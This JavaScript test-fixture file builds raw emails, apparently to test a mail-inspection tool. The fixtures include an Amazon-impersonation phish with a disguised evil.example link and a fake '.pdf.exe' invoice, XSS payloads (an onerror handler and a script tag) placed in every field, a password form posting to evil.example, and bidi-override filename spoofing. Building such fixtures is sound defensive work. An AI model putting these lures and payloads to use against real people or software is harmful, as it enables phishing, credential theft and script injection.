// SPDX-License-Identifier: MIT

// Mails that nobody would want to get.

const BOUNDARY = "=-fuwake-test";

/**
 * @param {string} text
 * @returns {string} as one encoded word
 */
export function encoded(text) {
  return `=?utf-8?b?${Buffer.from(text).toString("base64")}?=`;
}

/**
 * @param {string} text
 * @returns {string} base64 in lines
 */
function base64(text) {
  return (
    Buffer.from(text)
      .toString("base64")
      .match(/.{1,76}/g) ?? []
  ).join("\r\n");
}

/**
 * @typedef {object} Content
 * @property {string} [from] the field, encoded already
 * @property {string} [subject] likewise
 * @property {string[]} [fields] whole lines
 * @property {number} [hops]
 * @property {string} [html]
 * @property {{name: string, content: string}[]} [files]
 */

/**
 * @param {Content} content
 * @returns {Buffer}
 */
export function mail({ from, subject, fields = [], hops = 2, html = "<p>Hello</p>", files = [] }) {
  const received = Array.from({ length: hops }, (_, i) => {
    const time = new Date(Date.UTC(2026, 4, 14, 10, 0, hops - i))
      .toUTCString()
      .replace("GMT", "+0000");
    const peer =
      i === hops - 1
        ? "[127.0.0.1] (unknown [11.22.33.44])"
        : `h${i}.example (h${i}.example [203.0.113.${(i % 250) + 1}])`;
    const by = i === 0 ? "mx.example.jp" : `h${i - 1}.example`;
    return `Received: from ${peer}\r\n\tby ${by} with ESMTP id ${i};\r\n\t${time}`;
  });
  const parts = [
    `Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(html)}`,
    ...files.map(
      ({ name, content }) =>
        `Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n` +
        `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}\r\n\r\n` +
        base64(content),
    ),
  ];
  return Buffer.from(
    [
      ...received,
      `From: ${from ?? "Alice <alice@shop.example>"}`,
      "To: taro.yamada@example.jp",
      `Subject: ${subject ?? "Hello"}`,
      "Date: Thu, 14 May 2026 10:00:00 +0000",
      "Message-ID: <1@shop.example>",
      ...fields,
      "MIME-Version: 1.0",
      `Content-Type: multipart/mixed; boundary="${BOUNDARY}"`,
      "",
      ...parts.map((part) => `--${BOUNDARY}\r\n${part}`),
      `--${BOUNDARY}--`,
      "",
    ].join("\r\n"),
  );
}

/** A fraud with a finding in most sections; the 14th of May 2026 is a Thursday. */
export const fraud = mail({
  from: `${encoded("Amazon サポート")} <support@kyoto.example>`,
  subject: encoded("【重要】taro.yamada@example.jp 様 (2026年05月14日(金)"),
  fields: ["Reply-To: other@elsewhere.example", "X-Mailer: Microsoft Outlook 16.0"],
  html: `<html><body><p>2026年05月14日(火) 03:00</p>
<a href="https://evil.example/login?u=taro.yamada@example.jp">https://www.amazon.co.jp/login</a>
<a href="http://11.22.33.55/x">Amazon</a></body></html>`,
  files: [{ name: "請求書.pdf.exe", content: "MZ\u0090\0\u0003" }],
});

const MARKUP = `<b>bold</b><img src=x onerror="document.title='owned'"><script>owned=1</script>`;

/** Markup wherever a text can stand. */
export const markup = mail({
  from: `${encoded(MARKUP)} <"<i>x</i>"@shop.example>`,
  subject: encoded(`${MARKUP} (2026年05月14日(金)`),
  fields: [`Reply-To: ${encoded(MARKUP)} <x@elsewhere.example>`, `X-Mailer: ${MARKUP}`],
  html: `<a href="https://evil.example/?<b>x</b>">https://bank.example/&lt;b&gt;${MARKUP}</a>
<p>${MARKUP}2026年05月14日(火)</p><form action="https://evil.example/"><input type=password></form>`,
  files: [{ name: `${MARKUP}.pdf.exe`, content: "MZ" }],
});

const TURNED = "safe\u202egpj.exe\u2066\u200b\u00ad";

/** Characters that turn the line or that nobody sees. */
export const turned = mail({
  from: `${encoded(`${TURNED} مرحبا שלום`)} <a@shop.example>`,
  subject: encoded(`${TURNED} (مرحبا`),
  html: `<a href="https://evil.example/">https://bank.example/${TURNED}</a>`,
  files: [{ name: `${TURNED}.pdf.exe`, content: "MZ" }],
});

/** Too much of everything. */
export const huge = mail({
  from: `${encoded("名".repeat(10_000))} <${"a".repeat(5000)}@shop.example>`,
  subject: encoded("W".repeat(10_000)),
  hops: 64,
  fields: Array.from({ length: 300 }, (_, i) => `X-Field-${i}: ${"x".repeat(i)}`),
  html: Array.from(
    { length: 300 },
    (_, i) => `<a href="https://h${i}.example/${"y".repeat(3000)}">${"z".repeat(300)}</a>`,
  ).join("\n"),
  files: Array.from({ length: 30 }, (_, i) => ({
    name: `${"n".repeat(300)}${i}.pdf`,
    content: "%PDF-",
  })),
});
